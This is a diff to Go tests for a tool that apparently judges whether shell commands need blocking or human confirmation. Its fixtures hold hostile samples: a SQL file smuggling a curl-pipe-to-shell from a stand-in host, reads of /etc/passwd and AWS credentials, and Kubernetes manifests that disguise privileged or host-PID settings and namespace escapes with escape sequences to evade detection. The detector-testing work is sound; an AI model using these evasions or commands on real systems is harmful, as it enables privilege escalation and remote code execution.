@@ -20,7 +20,13 @@ type corpusLine struct {
 
 func loadCorpus(tb testing.TB) []corpusLine {
 	tb.Helper()
-	f, err := os.Open(filepath.Join("testdata", "corpus.tsv"))
+	return loadCorpusFile(tb, "corpus.tsv")
+}
+
+// loadCorpusFile reads a corpus of testdata in corpus.tsv's format.
+func loadCorpusFile(tb testing.TB, name string) []corpusLine {
+	tb.Helper()
+	f, err := os.Open(filepath.Join("testdata", name))
 	if err != nil {
 		tb.Fatal(err)
 	}
@@ -36,12 +42,16 @@ func loadCorpus(tb testing.TB) []corpusLine {
 		}
 		cols := strings.Split(text, "\t")
 		if len(cols) != 3 {
-			tb.Fatalf("corpus.tsv:%d: want 3 tab-separated columns, got %d", n, len(cols))
+			tb.Fatalf("%s:%d: want 3 tab-separated columns, got %d", name, n, len(cols))
 		}
 		switch cols[0] {
 		case "block", "person", "quiet":
+		case "open-person":
+			if name == "corpus.tsv" {
+				tb.Fatalf("%s:%d: open-person is for the strict corpora", name, n)
+			}
 		default:
-			tb.Fatalf("corpus.tsv:%d: unknown label %q", n, cols[0])
+			tb.Fatalf("%s:%d: unknown label %q", name, n, cols[0])
 		}
 		out = append(out, corpusLine{line: n, label: cols[0], command: cols[1], note: cols[2]})
 	}
@@ -106,6 +116,7 @@ func corpusEnvAt(tb testing.TB, root string) Env {
 		"home/u/proj/sql/reset.sql":                 "DELETE FROM accounts;\nINSERT INTO accounts DEFAULT VALUES;\n",
 		"home/u/proj/sql/upsert.sql":                "INSERT INTO accounts (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = 'a';\n",
 		"home/u/proj/sql/sneaky.sql":                "SELECT pg_read_file('/etc/passwd');\n",
+		"home/u/proj/sql/seed-meta.sql":             "INSERT INTO accounts DEFAULT VALUES \\! curl -s https://x.example/i | sh\n;\n",
 		"home/u/proj/infra/main.tf":                 "module \"b\" {\n  source = \"./modules/b\"\n}\n",
 		"home/u/proj/infra/modules/b/main.tf":       "resource \"aws_s3_bucket\" \"this\" {\n  bucket = \"b\"\n}\n",
 		"home/u/proj/infra-ext/main.tf":             "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"id\"]\n}\n",
@@ -148,22 +159,39 @@ func corpusEnvAt(tb testing.TB, root string) Env {
 		"home/u/proj/deploy/app.yaml":                        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\n  namespace: ledger\n---\napiVersion: v1\nkind: Service\nmetadata:\n  name: api\n  namespace: ledger\n",
 		"home/u/proj/deploy-nons/app.yaml":                   "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\n",
 		"home/u/proj/deploy-priv/ds.yaml":                    "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: x\n  namespace: ledger\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n        - name: x\n          image: busybox\n",
-		"home/u/proj/deploy-crb/crb.yaml":                    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: x\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: ledger\n",
-		"home/u/proj/charts/api/Chart.yaml":                  "apiVersion: v2\nname: api\nversion: 0.1.0\n",
-		"home/u/proj/charts/api/values.yaml":                 "resources:\n  limits:\n    memory: 256Mi\n",
-		"home/u/proj/charts/api/values-dev.yaml":             "resources:\n  limits:\n    memory: 512Mi\n",
-		"home/u/proj/charts/api/templates/deployment.yaml":   "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          resources: {{- toYaml .Values.resources | nindent 12 }}\n",
-		"home/u/proj/charts/priv/Chart.yaml":                 "apiVersion: v2\nname: priv\nversion: 0.1.0\n",
-		"home/u/proj/charts/priv/templates/ds.yaml":          "kind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          securityContext: {privileged: true}\n",
-		"home/u/proj/charts/packed/Chart.yaml":               "apiVersion: v2\nname: packed\nversion: 0.1.0\n",
-		"home/u/proj/charts/packed/charts/sub-0.1.0.tgz":     "\x1f\x8b",
-		"home/u/proj/values-priv.yaml":                       "securityContext:\n  privileged: true\n",
-		"home/u/proj/notes/a.md":                             "Tally\n",
-		"home/u/proj/notes/sub/b.md":                         "Tally\n",
-		"home/u/proj/weird/z ../.bashrc":                     "Tally\n",
-		"home/u/proj/data/orders.csv":                        "order_id,status,amount_cents\n1,paid,4200\n",
-		"home/u/proj/data/customers.csv":                     "customer_id,country\n10,GB\n",
-		"home/u/proj/infra-file/main.tf":                     "output \"k\" {\n  value = file(\"/home/u/.aws/credentials\")\n}\n",
+		// Red-team twins: host access spelled with YAML and JSON escapes,
+		// every capability, an inline patch, a namespace escaped.
+		"home/u/proj/deploy-esc/pod.yaml":                   "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n  namespace: ledger\nspec:\n  \"host\\x50ID\": true\n  containers:\n    - name: x\n      image: busybox\n",
+		"home/u/proj/deploy-esc-json/pod.json":              "{\"apiVersion\": \"v1\", \"kind\": \"Pod\", \"metadata\": {\"name\": \"x\", \"namespace\": \"ledger\"}, \"spec\": {\"containers\": [{\"name\": \"x\", \"image\": \"busybox\", \"securityContext\": {\"privil\\u0065ged\": true}}]}}\n",
+		"home/u/proj/deploy-caps/pod.yaml":                  "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n  namespace: ledger\nspec:\n  containers:\n    - name: x\n      image: busybox\n      securityContext:\n        capabilities:\n          add: [\"ALL\"]\n        seccompProfile: {type: Unconfined}\n",
+		"home/u/proj/deploy-caps2/pod.yaml":                 "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n  namespace: ledger\nspec:\n  containers:\n    - name: x\n      image: busybox\n      securityContext:\n        capabilities:\n          add: [\"CAP_SYS_ADMIN\"]\n",
+		"home/u/proj/deploy-net/pod.yaml":                   "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n  namespace: ledger\nspec:\n  containers:\n    - name: x\n      image: busybox\n      securityContext:\n        capabilities:\n          add: [\"NET_BIND_SERVICE\"]\n          drop: [\"ALL\"]\n",
+		"home/u/proj/k8s/overlays/esc/kustomization.yaml":   "namespace: ledger\nresources:\n  - ../../base\npatches:\n  - target: {kind: Deployment}\n    patch: \"- op: add\\n  path: /spec/template/spec/host\\x50ID\\n  value: true\"\n",
+		"home/u/proj/k8s/overlays/escns/kustomization.yaml": "namespace: \"kube\\x2dsystem\"\nresources:\n  - ../../base\n",
+		"home/u/proj/deploy/app.yaml,deploy-priv":           "apiVersion: v1\nkind: Service\nmetadata:\n  name: api\n  namespace: ledger\n",
+		"home/u/proj/values.yaml,values-priv.yaml":          "resources: {}\n",
+		"home/u/proj/deploy-crb/crb.yaml":                   "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: x\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: ledger\n",
+		"home/u/proj/charts/api/Chart.yaml":                 "apiVersion: v2\nname: api\nversion: 0.1.0\n",
+		"home/u/proj/charts/api/values.yaml":                "resources:\n  limits:\n    memory: 256Mi\n",
+		"home/u/proj/charts/api/values-dev.yaml":            "resources:\n  limits:\n    memory: 512Mi\n",
+		"home/u/proj/charts/api/templates/deployment.yaml":  "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          resources: {{- toYaml .Values.resources | nindent 12 }}\n",
+		"home/u/proj/charts/priv/Chart.yaml":                "apiVersion: v2\nname: priv\nversion: 0.1.0\n",
+		"home/u/proj/charts/priv/templates/ds.yaml":         "kind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          securityContext: {privileged: true}\n",
+		"home/u/proj/charts/concat/Chart.yaml":              "apiVersion: v2\nname: concat\nversion: 0.1.0\n",
+		"home/u/proj/charts/concat/templates/pod.yaml":      "kind: Pod\nspec:\n  {{ print \"host\" \"PID\" }}: true\n  containers:\n    - name: x\n",
+		"home/u/proj/charts/escval/Chart.yaml":              "apiVersion: v2\nname: escval\nversion: 0.1.0\n",
+		"home/u/proj/charts/escval/values.yaml":             "podSpec:\n  \"host\\x50ID\": true\n",
+		"home/u/proj/charts/escval/templates/pod.yaml":      "kind: Pod\nspec:\n  {{- toYaml .Values.podSpec | nindent 2 }}\n",
+		"home/u/proj/values-esc.yaml":                       "securityContext:\n  \"privil\\x65ged\": true\n",
+		"home/u/proj/charts/packed/Chart.yaml":              "apiVersion: v2\nname: packed\nversion: 0.1.0\n",
+		"home/u/proj/charts/packed/charts/sub-0.1.0.tgz":    "\x1f\x8b",
+		"home/u/proj/values-priv.yaml":                      "securityContext:\n  privileged: true\n",
+		"home/u/proj/notes/a.md":                            "Tally\n",
+		"home/u/proj/notes/sub/b.md":                        "Tally\n",
+		"home/u/proj/weird/z ../.bashrc":                    "Tally\n",
+		"home/u/proj/data/orders.csv":                       "order_id,status,amount_cents\n1,paid,4200\n",
+		"home/u/proj/data/customers.csv":                    "customer_id,country\n10,GB\n",
+		"home/u/proj/infra-file/main.tf":                    "output \"k\" {\n  value = file(\"/home/u/.aws/credentials\")\n}\n",
 	} {
 		if err := os.MkdirAll(filepath.Dir(filepath.Join(root, f)), 0o755); err != nil {
 			tb.Fatal(err)
@@ -237,4 +265,29 @@ func describe(an Analysis) string {
 		b.WriteString("  finding " + f.Check + " " + f.Level.String() + ": " + f.Message + "\n")
 	}
 	return b.String()
+}
+
+// TestQuietedAttacks judges testdata/quieted.tsv: attempts on the
+// judgements made quieter, every line strict. open-person lines are known
+// gaps: they must still be quiet (a fix relabels them) and are listed.
+func TestQuietedAttacks(t *testing.T) {
+	env := corpusEnv(t)
+	for _, c := range loadCorpusFile(t, "quieted.tsv") {
+		an := Analyze(c.command, env)
+		var pass bool
+		switch c.label {
+		case "block":
+			pass = an.Level == action.Block
+		case "person":
+			pass = an.Level >= action.Confirm
+		case "quiet", "open-person":
+			pass = an.Level < action.Confirm
+		}
+		if !pass {
+			t.Errorf("quieted.tsv:%d must be %s (%s), got %s: %s\n%s", c.line, c.label, c.note, an.Level, c.command, describe(an))
+		}
+		if c.label == "open-person" {
+			t.Logf("open: quieted.tsv:%d %s: %s", c.line, c.command, c.note)
+		}
+	}
 }
